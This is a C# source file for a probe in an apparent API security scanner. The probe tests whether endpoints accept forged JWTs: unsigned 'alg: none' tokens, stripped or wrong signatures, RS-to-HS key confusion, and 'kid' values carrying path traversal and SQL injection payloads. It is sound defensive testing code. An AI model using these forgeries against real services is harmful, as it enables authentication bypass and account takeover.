using System.Security.Cryptography;
using System.Text;
using Assay.Contract;
using Assay.Probe.Identities;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Request;

/// <summary>Broken authentication: tokens that nobody issued.</summary>
public sealed class ForgedToken : ApiProbe
{
    private const string Plain = "an unsigned token (`alg: none`)";

    /// <inheritdoc/>
    public override string Code => "ZTP107";

    /// <inheritdoc/>
    public override string Name => "forged-token";

    /// <inheritdoc/>
    public override Threat Threat => Threat.BrokenAuthentication;

    /// <inheritdoc/>
    public override Flow Flow => Flow.Request;

    /// <inheritdoc/>
    public override string Doc => """
        ## What it does
        Sends forged credentials where a genuine one works and none is refused: made-up text, a token without or with a
        wrong signature, a token that says that it needs none (`alg: none`), tokens signed with the server's public key as a
        secret, with a key that the token names (`kid`) or brings (`jwk`).
        ## Why it matters
        Who does not check the signature lets everyone be everyone.
        ## Bad
        ```http
        GET /orders HTTP/1.1
        Authorization: Bearer {"alg":"none"}.{"sub":"alice"}.

        HTTP/1.1 200
        [{"id":"8f14","user_id":"alice"}]
        ```
        ## Good
        ```http
        GET /orders HTTP/1.1
        Authorization: Bearer {"alg":"none"}.{"sub":"alice"}.

        HTTP/1.1 401
        ```
        """;

    internal override async IAsyncEnumerable<Finding> AttackAsync(Scene scene)
    {
        var keys = new Lazy<Task<IReadOnlyList<byte[]>>>(() => PublicKeys.FindAsync(scene));
        var accepted = new List<(string Forgery, Subject Subject, Exchange Attack)>();
        await foreach (var gate in TokenGate.FindAsync(scene))
        {
            foreach (var forgeries in (Func<Task<IReadOnlyList<Forgery>>>[])[() => Task.FromResult(Unsigned(gate.Caller)), () => SignedAsync(gate.Caller, keys)])
            {
                foreach (var forgery in await forgeries())
                {
                    if (await gate.TryAsync(forgery.As) is { } attack)
                    {
                        accepted.Add((forgery.Name, gate.Subject, attack));
                    }
                }

                // Where signatures are not looked at, every other forgery works too and tells nothing new.
                if (accepted.Exists(a => a.Subject == gate.Subject))
                {
                    break;
                }
            }
        }

        if (accepted.Count == 0)
        {
            yield break;
        }

        // One cause, one finding: how tokens are checked is hardly decided for each operation.
        var (name, first, proof) = accepted[0];
        // Other spellings of `none` are news only where the plain one is refused.
        var kinds = accepted.Select(a => a.Forgery).Distinct(StringComparer.Ordinal).ToArray();
        kinds = kinds.Contains(Plain) ? [.. kinds.Where(k => k == Plain || !k.StartsWith("an unsigned token", StringComparison.Ordinal))] : kinds;
        var others = accepted.Select(a => a.Subject).Distinct().Count() - 1;
        yield return Found(
            new CallLocation(first.Operation.Title, "header", proof.Call.As!.Credential.Header.Key),
            $"`{first.Operation.Title}`{(others > 0 ? $" and {others} more accept" : " accepts")} {string.Join(", ", kinds)}",
            "verify every token's signature, with a key and an algorithm that you choose, not the token",
            scene.Evidence(proof, $"without a credential the answer is 401 or 403; with {name} it is what `{first.Caller!.Name}` gets"));
    }

    private static IReadOnlyList<Forgery> Unsigned(Identity caller)
    {
        var made = new List<Forgery> { Forgery.Of("a made-up credential", caller, "assay-made-this-up") };
        if (caller.Jwt is not { } token)
        {
            return made;
        }

        var variable = caller.Variable;
        var parts = token.Parts;
        var signed = $"$(printf %s \"${variable}\" | cut -d. -f1-2)";
        var claims = $"$(printf %s \"${variable}\" | cut -d. -f2)";
        made.Add(Forgery.Of("a token without its signature", caller, $"{parts[0]}.{parts[1]}.", $"{signed}."));
        var wrong = new string('A', parts[2].Length);
        made.Add(Forgery.Of("a token with a wrong signature", caller, $"{parts[0]}.{parts[1]}.{wrong}", $"{signed}.{wrong}"));
        foreach (var algorithm in (string[])["none", "None", "NONE", "nOnE"])
        {
            var none = Jwt.Encode($$"""{"alg":"{{algorithm}}","typ":"JWT"}""");
            made.Add(Forgery.Of($"an unsigned token (`alg: {algorithm}`)", caller, $"{none}.{parts[1]}.", $"{none}.{claims}."));
        }

        return made;
    }

    // Signed by whoever wrote them: with the server's public key, an empty file, a key that the token itself brings.
    private static async Task<IReadOnlyList<Forgery>> SignedAsync(Identity caller, Lazy<Task<IReadOnlyList<byte[]>>> keys)
    {
        var made = new List<Forgery>();
        if (caller.Jwt is not { } token)
        {
            return made;
        }

        var claims = TokenSigner.Claims(token);
        if (TokenSigner.Algorithm(token)?.StartsWith("HS", StringComparison.Ordinal) == false)
        {
            made.AddRange((await keys.Value).Select(k => Forgery.Of("a token signed with the public key as if it were a secret (RS to HS)", caller, TokenSigner.Hmac(token, claims, k))));
        }

        foreach (var (keyId, key) in ((string, string)[])
            [("/dev/null", ""), ("../../../../../../../../dev/null", ""), ("zq' UNION SELECT 'assay' -- ", "assay"), ("zq' UNION SELECT 'assay", "assay"), ("", "")])
        {
            made.Add(Forgery.Of($"a token whose `kid` chooses the key (`{keyId}`)", caller, TokenSigner.Hmac(token, claims, Encoding.UTF8.GetBytes(key), keyId: keyId)));
        }

        using var own = RSA.Create(2048);
        made.Add(Forgery.Of("a token that brings its own key (`jwk`)", caller, TokenSigner.Rsa(token, own, embed: true)));
        return made;
    }
}
